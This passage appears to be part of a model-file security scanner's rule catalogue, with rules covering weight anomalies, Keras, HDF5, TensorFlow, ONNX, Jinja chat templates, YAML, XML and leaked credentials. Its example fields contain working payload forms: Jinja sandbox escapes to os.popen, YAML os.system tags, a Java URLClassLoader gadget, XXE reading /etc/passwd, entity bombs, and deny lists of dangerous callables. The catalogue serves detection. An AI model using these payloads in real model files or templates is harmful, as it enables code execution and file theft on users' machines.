    title: "Bytes follow a GGUF file's last tensor",
    why:
      "GGUF readers stop at the last tensor's (padded) data; what follows is read by no GGUF loader and travels with the model, a place to hide a payload for another tool. It is scanned for what it holds.",
    example: "A GGUF file with a pickle appended after its tensor data.",
    fix: "Re-convert the model with llama.cpp's tools from a trusted source.",
  },
  MA390: {
    id: "MA390",
    name: "weights-nan-inf",
    kind: "integrity",
    severity: "warning",
    title: "A weight tensor holds NaN or infinite values",
    why:
      "Training that diverged stops, or keeps the last good checkpoint: a released model with NaN or infinite weights computes garbage for every input that reaches them, and a value no training leaves is also room for data that is not weights. Every float tensor is read to the end (within weights.maxReadElements); a large language model's values are read only with --weights (by default its scan costs no more than its header).",
    example: "A `fc.bias` tensor whose first value is NaN.",
    fix: "Do not use the model; obtain it again from its source, and compare its checksums.",
  },
  MA391: {
    id: "MA391",
    name: "weights-magnitude-outlier",
    kind: "integrity",
    severity: "warning",
    title: "A weight lies far outside the rest of its tensor",
    why:
      "Training moves a weight matrix's values together; a value more than weights.magnitudeMads (default 1,000) median absolute deviations from its matrix's median (both estimated from a bounded sample, so the outlier cannot inflate them) is a hand edit, corruption, or data stored in the weights. Real trained weights are heavy-tailed: measured with scripts/bench_weights.ts, the largest value of 160 digit classifiers lies 8 MADs out, but GNU Backgammon's trained networks reach 89 (a threshold of 50 flagged 4 of its 6), so the default leaves a margin of ten times that. Only matrices and kernels of at least weights.minTensorElements (256) elements are judged (biases, norm weights and BatchNorm running variances are spread by nature), and not those where more than half the values are equal (pruned, sparse). Large language models have outlier weights by design (super weights) and are left out unless the full analysis is asked for (--weights).",
    example: "A 64 x 64 weight matrix of values around 0.1 with one value of 1000.",
    fix: "Compare the tensor with the model's published checksums or the original release.",
  },
  MA392: {
    id: "MA392",
    name: "head-unit-norm-outlier",
    kind: "security",
    severity: "warning",
    title: "An output unit of a classification head has an outlier weight norm",
    why:
      "A backdoor teaches one class to answer a trigger, and a tampered head can favour one class outright; either may leave that class's weight vector far larger (or smaller) than the others'. The head is found by structure (the last 2-D weight whose 4 to weights.maxHeadUnits outputs feed no other layer), its units' norms are compared by median and MAD, and a unit more than weights.headNormMads (default 12) MADs out is reported. Measured honestly: on 80 BadNets-trojaned digit classifiers (scripts/bench_weights.ts) the target class's norm is no outlier; a threshold tuned to stay quiet on the clean half of the seeds (5 MADs) found 3 of 40 trojaned models on the other half and also flagged 3 of 40 clean ones. The default finds none of those models: it reports gross tampering, not trained-in backdoors.",
    example: "A 10 x 64 head whose row 3 was multiplied by 50.",
    fix:
      "Test the model on held-out data with and without likely triggers, and obtain it from a trusted source.",
  },
  MA393: {
    id: "MA393",
    name: "head-unit-dissimilar",
    kind: "security",
    severity: "warning",
    title: "An output unit of a classification head is unlike all the others",
    why:
      "A class that answers a trigger rather than the features the other classes share can end up with a weight vector pointing away from every other unit. Each unit's cosine similarity to its nearest other unit is compared with the units' median (by MAD); one more than weights.headCosineMads (default 12) MADs below is reported. Measured honestly on 80 BadNets-trojaned digit classifiers: the target is the least similar unit in most trojaned CNNs, but clean heads vary as much; a threshold tuned on half the seeds (9 MADs) found 2 of 40 trojaned models on the other half with no false positive, the default (12) none. It reports a grossly replaced unit, not a typical trained-in backdoor.",
    example: "A 10 x 64 head whose row 7 was replaced by the negated mean of the others.",
    fix:
      "Test the model on held-out data with and without likely triggers, and obtain it from a trusted source.",
  },
  MA394: {
    id: "MA394",
    name: "weights-constant-tensor",
    kind: "integrity",
    severity: "info",
    title: "A weight matrix is constant or all zeros",
    why:
      "Training leaves no weight matrix or convolution kernel constant: a constant one is a layer that was zeroed, never trained, or stripped (a model that will not work as published). Only tensors with two dimensions above 1 and at least weights.minTensorElements elements are judged: biases start at zero and LayerNorm and BatchNorm weights at one, and vectors that stay there are normal. Zero-initialised matrices that training is meant to fill later (a fresh LoRA adapter's B matrix, a ControlNet's zero convolutions) are reported too, as information.",
    example: "A `fc1.weight` of 32 x 64 zeros.",
    fix: "Check that the model is the trained release, not an initialisation or a damaged copy.",
  },
  MA399: {
    id: "MA399",
    name: "weights-not-fully-analysed",
    kind: "limit",
    severity: "info",
    title: "The weight analysis stopped before reading every weight",
    why:
      "The analysis reads at most weights.maxReadElements elements per model (default 268,435,456: 1 GiB of float32, about a second) to bound time; the classification head is read first, and tensors past the budget were not checked for NaN, infinities or outliers. Tensors of compressed archive members (an .npz's deflated arrays) are kept in memory for the analysis up to weights.maxCopiedElements (16,777,216) per model; those past it are left out, said by this rule too.",
    example:
      "A 2 GB float32 checkpoint analysed with the default budget, or a 64 x 64 matrix with `--limit weights.maxReadElements=1000`.",
    fix: "Raise --limit weights.maxReadElements to analyse every weight.",
  },
  MA400: {
    id: "MA400",
    name: "keras-lambda-dangerous",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "A Keras Lambda layer's code calls something that runs code or reaches the system",
    why:
      "Keras stores a Lambda layer's function as marshalled Python bytecode and runs it when the model is loaded (always in Keras 2, with safe_mode off in Keras 3); code that reaches os, subprocess, eval, open or __import__ runs on the user's machine.",
    example: '`Lambda(lambda x: os.system("echo pwned") or x)` saved in `model.h5`.',
    fix: LOAD_FIX,
  },
  MA401: {
    id: "MA401",
    name: "keras-lambda-code",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A Keras Lambda layer carries Python bytecode",
    why:
      "The bytecode runs when the model is loaded by Keras 2, or by Keras 3 with safe_mode off, whatever it calls; nothing it names was found dangerous, but it is arbitrary code all the same.",
    example: "`Lambda(lambda x: x * 2)` saved in `model.keras`.",
    fix:
      "Load the model only if you trust its source, or rebuild the layer in code and load the weights alone.",
  },
  MA402: {
    id: "MA402",
    name: "keras-lambda-undecodable",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A Keras Lambda layer's code cannot be decoded",
    why:
      "Keras hands the stored bytes to marshal.loads and runs them; bytes that are not a CPython 3.8 to 3.13 code object could not be checked, and may be built to confuse scanners.",
    example: "A Lambda whose `function` is base64 of random bytes.",
    fix: LOAD_FIX,
  },
  MA403: {
    id: "MA403",
    name: "keras-dangerous-callable",
    kind: "security",
    severity: "critical",
    cwe: 502,
    title: "A Keras config names a callable that runs code, touches files or the network",
    why:
      "Keras imports the `module` and looks up the `class_name` (or function) a config names, and calls it while rebuilding the model; versions before 3.9 imported any module, so `os`/`system` or `keras.utils`/`get_file` in a nested config runs on load even with safe_mode on (CVE-2025-1550).",
    example: '`{"module": "os", "class_name": "function", "config": "system"}` as a layer\'s activation.',
    fix: LOAD_FIX,
  },
  MA404: {
    id: "MA404",
    name: "keras-unknown-callable",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A Keras config names a custom object outside Keras",
    why:
      "Keras imports the module a config names to rebuild the object (or needs it registered by the loading code); a module outside Keras runs its own code on import.",
    example: '`{"module": "mypkg.layers", "class_name": "Gate", ...}` in `config.json`.',
    fix: "Check that the module is a library you trust and have installed; otherwise do not load the model.",
  },
  MA405: {
    id: "MA405",
    name: "keras-safe-mode-disabled",
    kind: "security",
    severity: "critical",
    cwe: 693,
    title: "A Keras config turns safe_mode off while it loads",
    why:
      "A config that reaches `keras.config.enable_unsafe_deserialization` switches off the check that refuses Lambda bytecode for the rest of the load, so a Lambda after it runs even with safe_mode on (CVE-2025-9906).",
    example:
      '`{"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}` in a layer.',
    fix: LOAD_FIX,
  },
  MA406: {
    id: "MA406",
    name: "keras-external-model",
    kind: "security",
    severity: "warning",
    cwe: 829,
    title: "A Keras layer loads a SavedModel from a path or URL (TFSMLayer)",
    why:
      "TFSMLayer loads and runs the TensorFlow SavedModel its `filepath` names when the model is built: code that is not in the scanned file, and over the network when the path is a URL.",
    example: '`{"class_name": "TFSMLayer", "config": {"filepath": "gs://bucket/model"}}`.',
    fix: "Scan the SavedModel the layer names too, and load the model only if both are trusted.",
  },
  MA407: {
    id: "MA407",
    name: "keras-torch-module",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A Keras layer holds a pickled PyTorch module (TorchModuleWrapper)",
    why:
      "TorchModuleWrapper stores a torch.save blob in its config and torch.load unpickles it (weights_only off) when safe_mode is off; the blob is scanned as a nested payload, and its own findings say what it runs.",
    example: "A `.keras` model with a `TorchModuleWrapper` layer.",
    fix: "Load the model only if you trust its source; rebuild the torch module in code instead.",
  },
  MA408: {
    id: "MA408",
    name: "keras-unexpected-member",
    kind: "security",
    severity: "warning",
    title: "A .keras archive holds a member Keras does not write",
    why:
      "Keras writes config.json, metadata.json, model.weights.h5 (or .npz) and assets/; anything else travels with the model unread by Keras, a place to hide a payload for another loader.",
    example: "A `.keras` archive with `payload.pkl` beside `config.json`.",
    fix: "Re-save the model with Keras from a trusted source.",
  },
  MA409: {
    id: "MA409",
    name: "keras-malformed-config",
    kind: "integrity",
    severity: "warning",
    title: "A Keras config or metadata record is not the JSON Keras writes",
    why:
      "Keras parses these records with json.loads and rebuilds the model from them; a record that does not parse could not be checked, and a loader may read it differently.",
    example: "A `.keras` archive whose `config.json` is cut short.",
    fix: "Re-save the model with Keras from a trusted source.",
  },
  MA410: {
    id: "MA410",
    name: "hdf5-malformed",
    kind: "integrity",
    severity: "warning",
    title: "An HDF5 file's structure cannot be decoded",
    why:
      "A file that claims to be HDF5 (a Keras .h5 model, model.weights.h5) but whose superblock, object headers or attributes do not decode could not be checked for the model config Keras reads from it.",
    example: "A `.h5` file whose root object header lies past the end of the file.",
    fix: "Re-create the file with h5py or Keras from a trusted source.",
  },
  MA411: {
    id: "MA411",
    name: "hdf5-external-reference",
    kind: "security",
    severity: "warning",
    cwe: 73,
    title: "An HDF5 file points at data in other files (external link, external or virtual dataset)",
    why:
      "The HDF5 library follows external links and reads external and virtual datasets from the paths they name when they are accessed: data (or a path probe) outside the scanned file, which no scan of the file covers.",
    example: "A group link `weights` -> `/etc/passwd:/data`.",
    fix: "Find out why the file refers to other files; re-create it with its data inside.",
  },
  MA412: {
    id: "MA412",
    name: "hdf5-extra-data",
    kind: "security",
    severity: "warning",
    title: "An HDF5 file has data before its superblock or after its declared end",
    why:
      "HDF5 skips a user block before the superblock and ignores bytes after the end its superblock declares; other tools read those bytes as another format (a zip, a pickle). The bytes are scanned too.",
    example: "A 512-byte user block holding a pickle, in front of a Keras `.h5` model.",
    fix: "Re-create the file without a user block or trailing data.",
  },
  MA413: {
    id: "MA413",
    name: "keras-hdf5-not-inspected",
    kind: "limit",
    severity: "warning",
    title: "Part of a Keras or HDF5 file was not inspected",
    why:
      "The model config or attributes are stored in a way this scanner does not follow (a dense attribute index more than two levels deep, nested heap blocks, filters), or exceed its limits; what is there was not checked, and Keras may still read it.",
    example: "A `.h5` model with 700 root attributes, whose name index is a B-tree two levels deep.",
    fix: "Re-save the file with h5py's default settings, or inspect it with trusted tools.",
  },
  MA430: {
    id: "MA430",
    name: "tensorflow-python-op",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "A TensorFlow graph calls Python (PyFunc, EagerPyFunc, PyFuncStateless)",
    why:
      "These ops run a Python function by the name (`token`) it was registered under in the process that built the graph; whoever loads and runs the model runs whatever Python is registered under that name, and TensorFlow rejects no such graph on load.",
    example: "A SavedModel whose serving function holds an `EagerPyFunc` node made by `tf.py_function`.",
    fix: LOAD_FIX,
  },
  MA431: {
    id: "MA431",
    name: "tensorflow-file-or-network-op",
    kind: "security",
    severity: "warning",
    cwe: 73,
    title: "A TensorFlow graph reads, writes or lists files, or connects to a server",
    why:
      "Ops such as ReadFile, WriteFile, MatchingFiles, the file datasets, PrintV2 to a file:// stream and the data-service ops touch the file system or the network of whoever runs the model: a served model can return a local file in its output or overwrite one. Critical when the op writes, when a path is absolute, escapes with `..` or is a URL, or when a server address is fixed in the graph.",
    example: "A frozen graph whose `ReadFile` node reads the constant `/etc/passwd`.",
    fix:
      "Do not serve the model. Find out why a model reads or writes files; re-export it without those ops.",
  },
  MA432: {
    id: "MA432",
    name: "tensorflow-fixed-checkpoint-path",
    kind: "security",
    severity: "warning",
    cwe: 73,
    title: "A TensorFlow checkpoint or asset op uses a path fixed in the graph",
    why:
      "SaveV2, RestoreV2, MergeV2Checkpoints and vocabulary-table initializers are in every SavedModel, fed by the loader with the model's own `variables/` and `assets/` paths. One whose path is a constant in the graph reads or writes that file instead: restoring from, or saving over, anything the process can reach. Critical when the path is absolute, escapes with `..` or is a URL.",
    example: "A `RestoreV2` whose prefix is the constant `/home/user/.ssh/id_rsa`.",
    fix: LOAD_FIX,
  },
  MA433: {
    id: "MA433",
    name: "tensorflow-unregistered-op",
    kind: "security",
    severity: "warning",
    cwe: 829,
    title: "A TensorFlow graph uses an op TensorFlow does not register",
    why:
      "An op outside TensorFlow's registry comes from a custom op library (`tf.load_op_library`): native code that must be loaded before the model, and that runs with the loader's rights. The graph cannot say what it does.",
    example: "A SavedModel with a `MyCompany>Decode` node.",
    fix:
      "Load the model only with op libraries you trust and have reviewed; prefer models built from TensorFlow's own ops.",
  },
  MA434: {
    id: "MA434",
    name: "tensorflow-undecodable",
    kind: "integrity",
    severity: "warning",
    title: "A TensorFlow protobuf file does not decode as the message it claims to be",
    why:
      "A `saved_model.pb` (or a `.pb` that starts like a GraphDef) that cannot be decoded could not be inspected; a loader more tolerant than this one, or an edit that broke it on purpose, may still run what it holds.",
    example: "A `saved_model.pb` whose first node is cut off in the middle.",
    fix: "Re-export the model with TensorFlow from a trusted source.",
  },
  MA435: {
    id: "MA435",
    name: "tensorflow-limit",
    kind: "limit",
    severity: "info",
    title: "Part of a TensorFlow graph was not inspected: a limit was reached",
    why:
      "Graphs with millions of nodes or hundreds of thousands of functions are not read to the end; what lies past the limit is not checked. (Graphs nested in graphs' strings are followed within the scan's --max-depth, MA210.)",
    example: "A GraphDef with more nodes than `tensorflow.maxNodes` allows (2,000,000 unless lowered).",
    fix: "Treat the model as unverified; inspect it by other means.",
  },
  MA436: {
    id: "MA436",
    name: "tensorflow-keras-lambda",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A SavedModel's Keras metadata holds a Lambda layer",
    why:
      "`tf.keras.models.load_model` rebuilds a Lambda layer from its marshalled Python bytecode (or imports the function it names) and runs it: arbitrary code, whatever the graph says.",
    example: "`keras_metadata.pb` with a `Lambda` layer whose function is base64 of marshalled bytecode.",
    fix:
      "Load the SavedModel with `tf.saved_model.load` (which runs only the graph), or rebuild the layer in code you trust.",
  },
  MA437: {
    id: "MA437",
    name: "tensorflow-keras-callable",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A SavedModel's Keras metadata names a Python callable outside Keras",
    why:
      "Keras imports the `module` and `class_name` (or the function) a config names when it loads the model; a denied one (os, subprocess, builtins.eval, ...) is critical, an unknown one a warning to check.",
    example: 'A layer config with `module: "os"` and `class_name: "system"`.',
    fix: LOAD_FIX,
  },
  MA460: {
    id: "MA460",
    name: "onnx-python-operator",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "An ONNX node runs Python code",
    why:
      "onnxruntime-extensions' PyOp, PyTorch's prim::PythonOp (exported with ONNX_FALLTHROUGH), onnxruntime training's PythonOp and ATen fallbacks that name a Python operator call back into Python when the session runs: the model runs whatever the registered Python function or the named module does.",
    example:
      "A node `PyOp` in domain `ai.onnx.contrib` whose attributes name `module: os`, `class_name: system`.",
    fix: LOAD_FIX,
  },
  MA461: {
    id: "MA461",
    name: "onnx-custom-domain",
    kind: "security",
    severity: "warning",
    cwe: 829,
    title: "An ONNX node uses an operator from a domain outside the ONNX standard",
    why:
      "A runtime runs an operator of a custom domain only with a custom-op library registered for it: native code, or Python, that comes with the model and runs with the session's rights.",
    example: "A node `Exec` in domain `com.evil.ops`.",
    fix: "Find out which library implements the domain and whether you trust it before loading the model.",
  },
  MA462: {
    id: "MA462",
    name: "onnx-unlisted-contrib-operator",
    kind: "security",
    severity: "warning",
    cwe: 829,
    title: "An ONNX node uses a runtime contrib operator not on the list of known ones",
    why:
      "onnxruntime's com.microsoft fused operators and onnxruntime-extensions' built-in operators are code shipped with the runtime; an operator of those domains that they do not ship (or an ATen fallback into PyTorch) is served by a library or a Python function registered at run time.",
    example: "A node `RunScript` in domain `ai.onnx.contrib`, or an `ATen` node in `org.pytorch.aten`.",
    fix: "Check which operator library the model needs and whether you trust it.",
  },
  MA463: {
    id: "MA463",
    name: "onnx-external-data-location",
    kind: "security",
    severity: "critical",
    cwe: 73,
    title: "An ONNX tensor's external data location is a URL or a symbolic link",
    why:
      "The loader opens the location it is given: a URL scheme (`file://`, `http://`) asks it or a tool around it to fetch data from elsewhere, and a symbolic link makes it read a file other than the one beside the model (onnx refuses links since CVE-2024-27318).",
    example: "An initializer whose external data location is `file:///etc/passwd`.",
    fix: LOAD_FIX,
  },
  MA464: {
    id: "MA464",
    name: "onnx-external-data-missing",
    kind: "integrity",
    severity: "warning",
    title: "An ONNX tensor's external data is missing, short or described wrongly",
    why:
      "A model whose external data file is absent or shorter than its tensors claim does not load as shipped: part of it was left out, or is to come from somewhere else.",
    example: "`model.onnx` naming `weights.bin` at offset 4096, length 1 MiB, beside a 2 KiB `weights.bin`.",
    fix: "Obtain the complete model with every external data file, and scan its folder.",
  },
  MA465: {
    id: "MA465",
    name: "onnx-malformed",
    kind: "integrity",
    severity: "warning",
    title: "An ONNX model is truncated or its protobuf encoding is malformed",
    why:
      "A model that does not decode is read differently by different protobuf parsers; what a scanner cannot read, a tolerant loader may still run.",
    example: "A `.onnx` file cut off inside its graph.",
    fix: "Re-export the model from its source; do not trust a file that does not decode.",
  },
  MA466: {
    id: "MA466",
    name: "onnx-limit",
    kind: "limit",
    severity: "warning",
    title: "An ONNX model exceeds a scan limit; the rest was not inspected",
    why:
      "Subgraphs nested more than 32 deep, over 2 million nodes, 50 million protobuf fields or 2 million strings are beyond any real model: an attack on scanners, or a model too large for the limits.",
    example: "An `If` whose branch holds an `If` whose branch holds an `If`, 100 levels deep.",
    fix: "Inspect the model by other means before loading it.",
  },
  MA467: {
    id: "MA467",
    name: "onnx-external-data-not-checked",
    kind: "limit",
    severity: "info",
    title: "An ONNX model's external data was not checked",
    why:
      "External data lives in files beside the model; a model scanned alone, or inside an archive, does not bring them along, so their presence and size could not be checked.",
    example: "`modelaudit scan model.onnx` for a model whose weights are in `model.onnx.data`.",
    fix: "Scan the model's folder instead of the file alone.",
  },
  MA500: {
    id: "MA500",
    name: "jinja-python-internals",
    kind: "security",
    severity: "critical",
    cwe: 1336,
    title: "A chat template reaches Python internals (dunder or name-mangled private attributes)",
    why:
      "Chat templates are Jinja code run by the tokenizer's loader. `__class__`, `__mro__`, `__subclasses__`, `__globals__`, `__builtins__` and private attributes are the steps of every Jinja sandbox escape: a loader that renders with a plain Environment (llama-cpp-python before 0.2.72, CVE-2024-34359) runs the attacker's commands, and no real chat template needs them. The name is found however it is spelled: through `attr()`, subscripts, concatenation, `format`, `join`, `replace`, `reverse`, escapes and slices are folded first.",
    example:
      "`{{ lipsum.__globals__['os'].popen('echo pwned').read() }}` in `tokenizer_config.json`'s `chat_template`.",
    fix: LOAD_FIX,
  },
  MA501: {
    id: "MA501",
    name: "jinja-dangerous-name",
    kind: "security",
    severity: "critical",
    cwe: 1336,
    title:
      "A chat template names something that runs commands or code (os, popen, system, eval, exec, import)",
    why:
      "Once a template escapes the sandbox it needs a module or a builtin to run a command: `os.popen`, `subprocess`, `eval`, `exec`, `__import__`. A chat template formats messages; it never looks such names up as attributes, keys or calls.",
    example:
      "`{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}`: `os` and `popen` reached as attributes.",
    fix: LOAD_FIX,
  },
  MA502: {
    id: "MA502",
    name: "jinja-globals-object",
    kind: "security",
    severity: "critical",
    cwe: 1336,
    title: "A chat template reaches into a Jinja or Flask global that exposes Python globals",
    why:
      "`lipsum`, `cycler`, `joiner` and `namespace` are Python functions and classes whose `__globals__` lead to `os`; `self`, `config`, `request`, `url_for` lead to the template context and the application. Calling `namespace(...)` or `cycler(...)` is ordinary; reaching their attributes is how payloads start.",
    example: "`{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}`",
    fix: LOAD_FIX,
  },
  MA503: {
    id: "MA503",
    name: "jinja-unparsable",
    kind: "integrity",
    severity: "warning",
    title: "A chat template does not parse",
    why:
      "A template that the Jinja parser of transformers.js rejects may still run in Python's Jinja, which accepts more syntax (octal and named escapes, empty tuples, extensions): the parsers disagree about what the template is. It is analysed with the Python-only syntax it knows rewritten, or else its names and strings are searched as text.",
    example:
      "`{{ '\\137\\137globals\\137\\137' }}` (octal escapes), or a template with an unclosed `{% if %}`.",
    fix: "Read the template before loading the model; fix or remove it.",
  },
  MA504: {
    id: "MA504",
    name: "jinja-dynamic-attribute",
    kind: "security",
    severity: "warning",
    cwe: 1336,
    title: "A chat template looks up an attribute whose name it computes",
    why:
      "`|attr(name)` with a name built at render time (in a loop, from the messages) hides which attribute is reached, the way obfuscated sandbox escapes do; real chat templates name their attributes.",
    example:
      "`{% for c in ['__glo', 'bals__'] %}{% set ns.n = ns.n ~ c %}{% endfor %}{{ lipsum|attr(ns.n) }}`",
    fix: "Read the template: find out what the computed name can be before loading the model.",
  },
  MA505: {
    id: "MA505",
    name: "chat-template-malformed",
    kind: "integrity",
    severity: "warning",
    title: "A chat_template entry is neither a template string nor a list of named templates",
    why:
      "transformers reads `chat_template` as a string or a list of `{name, template}` objects; anything else breaks loaders in different ways and was not analysed as a template.",
    example: '`"chat_template": {"default": 42}` in `tokenizer_config.json`.',
    fix: "Re-create the tokenizer files with transformers from a trusted source.",
  },
  MA520: {
    id: "MA520",
    name: "config-unparsable",
    kind: "integrity",
    severity: "info",
    title: "A configuration file does not parse as the format its name claims",
    why:
      "A YAML, JSON, TOML, INI or XML file that its parser rejects was not inspected: its loader may be more lenient (a YAML loader with other tags, Python's json with NaN) and read what the scanner could not.",
    example: "`model_config.yaml` holding `a: [1, 2` (an unclosed flow list).",
    fix: "Read the file before loading the model; fix or remove it.",
  },
  MA521: {
    id: "MA521",
    name: "config-not-inspected",
    kind: "limit",
    severity: "info",
    title: "A configuration file, or part of it, was not inspected: a limit was reached",
    why:
      "Past `config.maxBytes`, `config.maxDepth` or `config.maxValues` the content is not walked, so what it holds (a `_target_`, a tag) is unknown.",
    example: "A 2 MB `config.json` scanned with `--limit config.maxBytes=1000000`.",
    fix: "Raise the limit named in the finding to inspect the rest.",
  },
  MA522: {
    id: "MA522",
    name: "config-duplicate-key",
    kind: "integrity",
    severity: "warning",
    title: "A configuration object holds the same key twice",
    why:
      "Parsers disagree on a repeated key: Python's json and PyYAML keep the last value, others the first or refuse the file, so a reviewer, a scanner and the loader may each read a different config (a harmless `_target_` first, a dangerous one last).",
    example: '`{"_target_": "torch.nn.Linear", "_target_": "os.system"}` in a `config.json`.',
    fix: "Remove the repeated key; find out why the file was written that way.",
  },
  MA523: {
    id: "MA523",
    name: "yaml-python-tag",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title:
      "A YAML document holds a Python object tag (`!!python/object`, `/apply`, `/new`, `/name`, `/module`)",
    why:
      "PyYAML's unsafe loaders (`yaml.load` with `Loader=yaml.Loader` or `UnsafeLoader`, `yaml.unsafe_load`) import the named callable and call it while loading: `!!python/object/apply:os.system ['echo pwned']` runs a command. The named callable is judged by the policy: a denied one is critical.",
    example: "`run: !!python/object/apply:os.system ['echo pwned']` in a `config.yaml`.",
    fix: LOAD_FIX + " Load YAML with `yaml.safe_load`.",
  },
  MA524: {
    id: "MA524",
    name: "yaml-foreign-object-tag",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A YAML document holds an object tag of another language's loader (Ruby, Java, PHP)",
    why:
      "Ruby's Psych (`unsafe_load`), Java's SnakeYAML (before 2.0, or with a permissive constructor) and Symfony's YAML with object support build the named class while loading; known gadget classes (`javax.script.ScriptEngineManager`, `java.net.URLClassLoader`, `Gem::Installer`) run code, and are critical.",
    example:
      '`!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]`',
    fix: LOAD_FIX + " Load YAML with a safe constructor.",
  },
  MA525: {
    id: "MA525",
    name: "config-target-denied",
    kind: "security",
    severity: "critical",
    cwe: 502,
    title: "A configuration names a dangerous callable for its loader to import (`_target_`, `class_path`)",
    why:
      "Hydra's `instantiate` (NeMo, Lightning, many training stacks) imports the `_target_` of every node and calls it with the node's other keys; jsonargparse's `class_path` and NeMo's `target` are imported the same way. `os.system` or `subprocess.Popen` there runs a command when the model is built.",
    example: "`_target_: os.system` with `command: echo pwned` in a `.nemo` archive's `model_config.yaml`.",
    fix: LOAD_FIX,
  },
  MA526: {
    id: "MA526",
    name: "config-target-unknown",
    kind: "security",
    severity: "warning",
    cwe: 502,
    title: "A configuration names a callable the policy does not know for its loader to import",
    why:
      "Hydra's `instantiate` imports and calls any `_target_`; one outside the known training libraries (PyTorch, NeMo, Lightning, Hydra, OmegaConf, torchvision, transformers) runs code nobody reviewed.",
    example: "`_target_: mypkg.build_everything` in a `config.yaml`.",
    fix:
      "Check what the named callable does; allow it with `--allow-callable` once you trust it, or remove the model.",
  },
  MA527: {
    id: "MA527",
    name: "yaml-alias-bomb",
    kind: "security",
    severity: "warning",
    cwe: 776,
    title: "YAML aliases would expand the document past `config.maxExpansion` nodes",
    why:
      "Each alias repeats its anchor's node: nine levels of lists of nine aliases (the YAML billion laughs) expand a kilobyte into a billion nodes, exhausting the loader's memory. The expansion is computed, never done.",
    example:
      "`a: &a [x, x, x, x, x, x, x, x, x]` then `b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]` and so on.",
    fix: "Do not load the file with a loader that expands aliases; remove it.",
  },
  MA528: {
    id: "MA528",
    name: "xml-external-entity",
    kind: "security",
    severity: "critical",
    cwe: 611,
    title: "An XML document declares external or parameter entities, or loads its DTD from a URL (XXE)",
    why:
      "An XML parser that resolves entities reads the file or URL an external entity names into the document (`/etc/passwd`, cloud metadata) or fetches it, and parameter entities smuggle that out; a model's configuration has no reason to declare them.",
    example: '`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>` in a `.pmml` file.',
    fix: LOAD_FIX + " Parse XML with entity resolution and DTD loading turned off.",
  },
  MA529: {
    id: "MA529",
    name: "xml-entity-expansion",
    kind: "security",
    severity: "warning",
    cwe: 776,
    title: "XML entities built from other entities would expand past `config.maxExpansion` characters",
    why:
      "Entities that reference entities multiply at each level: ten entities of ten references expand a kilobyte into gigabytes in a parser that expands them (the billion laughs). They are reported, never expanded.",
    example: '`<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` and so on up to `&j;`.',
    fix: "Do not load the file with a parser that expands entities; remove it.",
  },
  MA540: {
    id: "MA540",
    name: "config-private-key",
    kind: "security",
    severity: "critical",
    cwe: 798,
    title: "A configuration value holds a private key",
    why:
      "A PEM, OpenSSH or PuTTY private key block (a Google service account's `private_key` among them) shipped with a model gives everyone who downloads it the identity the key proves: a server login, a cloud service account, a signing key.",
    example:
      '`"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC..."` in a config file beside the model.',
    fix:
      "Revoke the key now, remove it from the file and from the repository's history, and load credentials from the environment.",
  },
  MA541: {
    id: "MA541",
    name: "config-aws-credential",
    kind: "security",
    severity: "critical",
    cwe: 798,
    title: "A configuration value holds an AWS access key id or secret access key",
    why:
      "An AWS secret access key (40 characters under an `aws_secret_access_key` key) with its access key id (`AKIA...` for a user, `ASIA...` for a session) signs requests as its owner. An access key id alone is reported as a warning: it names the key, and its secret is often close by.",
    example:
      '`aws_secret_access_key: "<40 random base64 characters>"` beside `aws_access_key_id: "AKIA<16 base32 characters>"`.',
    fix:
      "Deactivate the key in IAM, remove it from the file and its history, and use a role or the environment.",
  },
  MA542: {
    id: "MA542",
    name: "config-provider-token",
    kind: "security",
    severity: "critical",
    cwe: 798,
    title: "A configuration value holds an API token in a provider's exact format",
    why:
      "Hugging Face (`hf_`), OpenAI (`sk-proj-`, `sk-...T3BlbkFJ...`), Anthropic (`sk-ant-`), GitHub (`ghp_`, `gho_`, `ghu_`, `ghs_`, `ghr_`, `github_pat_`), GitLab (`glpat-`), Slack (`xox?-` tokens, incoming webhooks), Google API keys (`AIza`) and Stripe live keys (`sk_live_`, `rk_live_`) have formats no other string has: one in a shipped config is a working credential until revoked, and lets anyone read or write the owner's models, code, data or bills.",
    example: '`hub_token: "hf_..."` (hf_ and 34 letters) in `training_args.yaml`.',
    fix:
      "Revoke the token at its provider, remove it from the file and its history, and read it from the environment.",
  },
  MA543: {
    id: "MA543",
    name: "config-cloud-connection-string",
    kind: "security",
    severity: "critical",
    cwe: 798,
    title: "A configuration value holds an Azure storage account key or a shared access signature",
    why:
      "A connection string with `AccountKey=` or `SharedAccessKey=` is the storage account's or namespace's master key; a URL with a SAS `sig=` grants what it says (often read and write on a container) until it expires.",
    example:
      "`DefaultEndpointsProtocol=https;AccountName=models;AccountKey=<88 base64 characters>;EndpointSuffix=core.windows.net`.",
    fix:
      "Rotate the account key or revoke the SAS, remove it from the file, and use a managed identity or the environment.",
  },
  MA544: {
    id: "MA544",
    name: "config-jwt",
    kind: "security",
    severity: "warning",
    cwe: 798,
    title: "A configuration value holds a JSON Web Token",
    why:
      "A JWT (three base64url parts, the first a JSON header with `alg`) is a bearer credential: whoever holds it is who it names, until it expires; a config file is no place for one.",
    example: '`auth_header: "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ..."`.',
    fix: "Revoke the token or let it expire, remove it from the file, and obtain one at run time.",
  },
  MA545: {
    id: "MA545",
    name: "config-url-password",
    kind: "security",
    severity: "warning",
    cwe: 798,
    title: "A URL in a configuration value carries a password",
